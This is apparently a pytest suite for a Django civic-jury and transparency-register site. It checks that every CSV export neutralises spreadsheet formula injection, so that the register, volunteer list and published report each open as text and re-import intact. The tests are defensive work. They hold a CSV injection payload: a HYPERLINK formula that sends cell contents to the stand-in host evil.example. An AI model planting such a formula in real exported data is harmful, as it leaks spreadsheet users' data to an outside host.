"""Every CSV the site writes is safe to open: a cell a spreadsheet would run as a formula opens as
text. Each download is fed a cell starting with each character that can start a formula."""

import csv
import hashlib
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from evidence import atrs
from evidence.models import System
from juries import csv_export
from juries.models import Visibility, Volunteer
from tests.juries.conftest import categories, fresh_rate_limits, open_jury  # noqa: F401 (fixtures)
from tests.juries.recruitment_helpers import add_volunteer
from tests.voting.conftest import make_recommendation  # noqa: F401 (fixture)
from tests.voting.report_setup import ready_for_report
from voting import reports
from voting.models import ReportFormat, Theme

# Each test starts with no registrations counted against the test client's address.
pytestmark = pytest.mark.usefixtures("fresh_rate_limits")

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def read_rows(data):
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(text, newline="")))


def written(*cells):
    buffer = io.StringIO()
    csv_export.writer(buffer).writerow(cells)
    return read_rows(buffer.getvalue())[0]


def opens_as_text(cell, given):
    return cell == "'" + given


# --- The one writer --------------------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_that_would_start_a_formula_is_written_with_a_quote_in_front(start):
    assert written(start + PAYLOAD) == ["'" + start + PAYLOAD]


def test_numbers_and_plain_text_are_written_as_they_are():
    cells = written(-3, 2.5, "-12.5", "1,234", "Plain text", "", "'Tis the season")
    assert cells == ["-3", "2.5", "-12.5", "1,234", "Plain text", "", "'Tis the season"]


def test_text_that_only_looks_like_a_number_at_first_is_still_quoted():
    assert written("-1 in 5 claims flagged") == ["'-1 in 5 claims flagged"]


def test_every_neutralised_cell_is_restored_to_what_was_given():
    given = [start + PAYLOAD for start in FORMULA_STARTS] + ["=A1|B1", "|pipe", "%done"]
    assert [csv_export.restore(cell) for cell in written(*given)] == given
    assert csv_export.restore("'Tis the season") == "'Tis the season"
    assert csv_export.restore("'") == "'"


# --- The register's transparency record ------------------------------------------------------


@pytest.fixture
def make_system(db):
    def make(**fields):
        return System.objects.create(
            slug="risk-score",
            name="Risk score",
            organisation="Council",
            purpose="To pick claims to check by hand.",
            **fields,
        )

    return make


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_the_register_csv_opens_as_text(client, make_system, start):
    system = make_system(task=start + PAYLOAD, description=start + "1+1")

    response = client.get(reverse("evidence:system-csv", args=[system.slug]))

    header, row = read_rows(response.content)
    cells = dict(zip(header, row, strict=True))
    assert opens_as_text(cells["task"], start + PAYLOAD)
    assert opens_as_text(cells["description"], start + "1+1")
    assert cells["name"] == "Risk score"


def test_a_register_csv_with_formulas_imports_again_as_it_was(make_system):
    given = {f"risk_{n}": start + PAYLOAD for n, start in enumerate(FORMULA_STARTS)}
    system = make_system(
        task="=SUM(A1:A3)|x",
        regions="-12.5",
        risks=[{"name": name, "description": value} for name, value in given.items()],
    )

    record = atrs.read_csv(atrs.export_csv(system))

    assert record.problems == []
    assert record.fields["task"] == "=SUM(A1:A3)|x"
    assert record.fields["regions"] == "-12.5"
    assert [risk["description"] for risk in record.fields["risks"]] == list(given.values())


# --- The volunteers of a jury ----------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_the_volunteers_csv_opens_as_text(client, open_jury, categories, facilitator, start):  # noqa: F811
    volunteer = add_volunteer(open_jury, categories)
    Volunteer.objects.filter(pk=volunteer.pk).update(
        name=start + PAYLOAD, access_needs=start + "wheelchair"
    )
    client.force_login(facilitator)

    response = client.get(reverse("juries:volunteer-export", args=[open_jury.slug]))

    header, row = read_rows(response.content)[:2]
    cells = dict(zip(header, row, strict=True))
    assert opens_as_text(cells["name"], start + PAYLOAD)
    assert opens_as_text(cells["access needs"], start + "wheelchair")
    assert cells["email"] == "ada@example.net"


# --- The published report --------------------------------------------------------------------


@pytest.fixture
def formula_report(jury, facilitator, juror, other_juror, oversight, make_recommendation):  # noqa: F811
    """A published report whose recommendations start with each formula character."""
    ready_for_report(jury, facilitator, make_recommendation)
    for start in FORMULA_STARTS:
        theme = Theme.objects.create(jury=jury, title=start + "Data")
        make_recommendation(start + PAYLOAD, addressed_to=start + "Council", theme=theme)
    jury.visibility = Visibility.PUBLIC
    jury.save()
    return reports.publish_report(jury, facilitator)


def test_the_report_csv_opens_as_text_and_its_hash_is_of_the_safe_file(
    client, jury, formula_report
):
    address = reverse("voting:report-download", args=[jury.slug, 1, "csv"])
    data = client.get(address).content

    header, *rows = read_rows(data)
    by_statement = {row[header.index("Recommendation")]: row for row in rows}
    for start in FORMULA_STARTS:
        row = by_statement["'" + start + PAYLOAD]
        assert opens_as_text(row[header.index("Who should act")], start + "Council")
        assert opens_as_text(row[header.index("Theme")], start + "Data")
    stored = formula_report.files.get(format=ReportFormat.CSV)
    assert hashlib.sha256(data).hexdigest() == stored.sha256
    upload = SimpleUploadedFile("report.csv", data, content_type="text/csv")
    page = client.post(reverse("voting:report-verify", args=[jury.slug]), {"file": upload})
    assert "It matches" in page.content.decode()
